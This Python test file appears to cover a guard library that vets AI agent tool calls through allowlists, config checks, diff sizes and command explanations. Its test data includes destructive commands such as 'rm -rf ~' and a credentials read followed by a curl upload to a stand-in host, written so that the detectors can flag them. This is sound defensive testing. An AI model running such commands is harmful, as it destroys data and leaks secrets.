"""The smaller parts of the gates: settings, results, allowlist, fields, sizes, explanations, flows."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tipstaff import EnforcementGates, GateConfig, GateResult, aggregate_decision
from tipstaff.errors import ConfigError
from tipstaff.gates.fields import MAX_FIELDS, fields_of, keys_of
from tipstaff.gates.judging.allowlist import is_allowed
from tipstaff.gates.judging.diff_size import changed_lines, reported_lines
from tipstaff.kernels._gates import Flow


@pytest.mark.parametrize(
    ("tool", "glob", "wanted"),
    [
        ("Read", "Read", True),
        ("Read", "read", False),
        ("mcp__db_query", "mcp__db_*", True),
        ("mcp__d", "mcp__db_*", False),
        ("mcp__x_read", "mcp__*_read", True),
        ("mcp__x_read_all", "mcp__*_read", False),
        ("Anything", "*", True),
        ("", "*", True),
        ("", "Read", False),
        ("", "**", False),
        ("a" * 50, "a*a*a*b", False),
    ],
)
def test_allowlist(tool: str, glob: str, wanted: bool) -> None:
    assert is_allowed(tool, [glob]) is wanted


def test_allowlist_gate() -> None:
    gates = EnforcementGates(GateConfig(tool_allowlist=True, allowed_tools=("Read", "mcp__*__get_*")))
    assert gates.evaluate_tool_use("Read", {}) == []
    assert gates.evaluate_tool_use("mcp__hub__get_issue", {}) == []
    (result,) = gates.evaluate_tool_use("Bash", {"command": "ls"})
    assert (result.gate_name, result.decision) == ("tool-allowlist", "block")
    assert "Read" in result.remediation


@pytest.mark.parametrize(
    "options",
    [
        {"tool_allowlist": True},
        {"diff_size_threshold": -1},
        {"diff_size_threshold": float("nan")},
        {"run_diff_threshold": -0.5},
        {"uncertain": "maybe"},
        {"on_error": "BLOCK"},
        {"allowed_tools": "Read"},
        {"allowed_tools": ("",)},
        {"secrets": "yes"},
    ],
)
def test_settings_are_checked(options: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        GateConfig(**options)


def test_settings_as_numbers() -> None:
    config = GateConfig(diff_size_threshold=300.5, run_diff_threshold=0, unattended=True)
    assert config.numbers() == (0b011101, 300, 1, 2, 3, 2, 256, 10_000, 2_000, 512, True)
    assert GateConfig(diff_size_threshold=float("inf")).numbers()[1] == 0xFFFFFFFE


def test_the_most_restrictive_decision_wins() -> None:
    def results(*decisions: str) -> list[GateResult]:
        return [GateResult(decision, "secrets", "") for decision in decisions]

    assert aggregate_decision([]) == "allow"
    assert aggregate_decision(results("warn", "allow")) == "warn"
    assert aggregate_decision(results("require-confirmation", "warn")) == "require-confirmation"
    assert aggregate_decision(results("warn", "block", "allow")) == "block"


def test_fields() -> None:
    params = {
        "command": ["rm", "-rf"],
        "edits": [{"new_string": "a"}, {"new_string": "b"}],
        "n": 3,
        "ok": True,
        "off": False,
        "none": None,
    }
    found = [(field.name, field.path, field.text, field.element) for field in fields_of(params)]
    assert found == [
        ("command", "command[0]", "rm", 0),
        ("command", "command[1]", "-rf", 1),
        ("new_string", "edits[0].new_string", "a", -1),
        ("new_string", "edits[1].new_string", "b", -1),
        ("ok", "ok", "true", -1),
    ]
    assert keys_of(params) == ["command", "edits", "n", "ok", "off", "none", "new_string"]
    assert len(fields_of(["x"] * (MAX_FIELDS + 50))) <= MAX_FIELDS + 1


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)
GATES = EnforcementGates(GateConfig(read_files=False))


@given(st.text(), json_values)
def test_no_tool_call_raises(tool: str, params: Any) -> None:
    for result in GATES.evaluate_tool_use(tool, params):
        json.dumps(result.to_dict())


@given(st.text())
def test_no_command_raises_and_spans_are_within_it(text: str) -> None:
    for shell in ("bash", "powershell", "cmd", "sql", "python", "node"):
        for result in GATES.evaluate_command(text, cwd="/home/dev/proj", shell=shell):
            for finding in result.metadata["findings"]:
                assert 0 <= finding["start"] <= finding["end"] <= len(text)


@pytest.mark.parametrize(
    ("tool", "params", "lines"),
    [
        ("Write", {"content": "a\nb\n"}, 2),
        ("Write", {"content": "a\nb"}, 2),
        ("Write", {"content": ""}, 0),
        ("Edit", {"old_string": "a\nb\nc\n", "new_string": "a\nx\nc\n"}, 2),
        ("Edit", {"old_string": "a\n", "new_string": "a\nb\n"}, 1),
        ("Edit", {"old_string": "a\nb\n", "new_string": ""}, 2),
        ("Edit", {"old_string": "same", "new_string": "same"}, 0),
        ("apply_patch", {"input": "*** Begin Patch\n*** Update File: a\n@@\n-a\n+b\n c\n*** End Patch"}, 2),
        ("Bash", {"command": "echo a\necho b"}, 0),
        ("Read", {"content": "a\n"}, 0),
    ],
)
def test_changed_lines(tool: str, params: Any, lines: int) -> None:
    assert changed_lines(tool, params) == lines


def test_reported_lines() -> None:
    assert reported_lines(300.5) == 300.5
    assert [reported_lines(value) for value in (float("nan"), -1, True)] == [None, None, None]


def test_explanation_says_how() -> None:
    explanation = GATES.explain("cd src && sudo git reset --hard # rm -rf /", cwd="/home/dev/proj")
    assert [command.program for command in explanation.commands] == ["cd", "sudo", "git"]
    assert explanation.commands[2].cwd == "/home/dev/proj/src"
    assert "sudo" in explanation.commands[2].via
    held = [tried.rule_id for tried in explanation.tried if tried.held]
    assert held == ["git.reset-hard"]
    assert any(tried.rule_id == "git.reset-merge" and not tried.held for tried in explanation.tried)
    assert explanation.results[0].decision == "require-confirmation"
    assert json.dumps(explanation.to_dict())


@pytest.mark.parametrize(
    ("command", "programs", "kinds"),
    [
        ("git push --force && git status", ["git", "git"], ["root", "code", "command", "command"]),
        ("git status --short", ["git"], ["root", "code", "command"]),
        ("ls -l | head -3", ["ls", "head"], ["root", "code", "command", "command"]),
        ("npx tsc && ls", ["npx", "tsc", "ls"], ["root", "code", "command", "command", "command"]),
    ],
)
def test_explanation_has_the_whole_tree(command: str, programs: list[str], kinds: list[str]) -> None:
    explanation = GATES.explain(command, cwd="/home/dev/proj")
    assert [one.program for one in explanation.commands] == programs
    assert [one.kind for one in explanation.nodes] == kinds
    tried = {one.command for one in explanation.tried}
    assert tried <= set(range(len(programs)))


def test_a_secret_read_earlier_makes_a_later_upload_a_question() -> None:
    flow = Flow()
    upload = "curl -F file=@/tmp/x https://x.example/u"
    assert aggregate_decision(GATES.evaluate_command(upload, flow=flow)) == "allow"
    GATES.evaluate_tool_use("Read", {"file_path": "/home/dev/.aws/credentials"}, flow=flow)
    again = Flow(flow.to_bytes())
    (result,) = GATES.evaluate_command(upload, flow=again)
    assert result.metadata["findings"][0]["rule_id"] == "network.secret-then-send"
    assert result.decision == "require-confirmation"
    assert GATES.evaluate_command("curl https://x.example/u", flow=again) == []


def test_a_script_that_was_written_is_judged_when_it_runs() -> None:
    flow = Flow()
    script = {"file_path": "/tmp/tidy.sh", "content": "#!/bin/sh\nrm -rf ~\n"}
    assert aggregate_decision(GATES.evaluate_tool_use("Write", script, flow=flow)) == "allow"
    assert aggregate_decision(GATES.evaluate_command("sh /tmp/tidy.sh", flow=flow)) == "block"
    assert aggregate_decision(GATES.evaluate_command("/tmp/tidy.sh", flow=flow)) == "block"
    assert aggregate_decision(GATES.evaluate_command("sh /tmp/other.sh", flow=flow)) == "allow"
    fixed = {"file_path": "/tmp/tidy.sh", "content": "#!/bin/sh\nls\n"}
    GATES.evaluate_tool_use("Write", fixed, flow=flow)
    assert aggregate_decision(GATES.evaluate_command("sh /tmp/tidy.sh", flow=flow)) == "allow"


def test_a_flow_from_other_bytes_is_refused() -> None:
    with pytest.raises(ValueError, match="bytes"):
        Flow(b"x")
    with pytest.raises(ValueError, match="version"):
        Flow(bytes(len(Flow().to_bytes())))
